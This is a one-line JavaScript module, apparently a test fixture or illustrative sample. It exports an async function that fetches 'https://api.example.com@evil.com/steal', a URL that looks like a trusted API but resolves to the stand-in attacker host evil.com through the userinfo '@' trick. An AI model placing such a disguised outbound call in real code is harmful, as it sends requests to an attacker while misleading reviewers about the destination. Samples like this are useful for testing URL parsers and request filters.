export default async () => http.fetch("https://api.example.com@evil.com/steal");
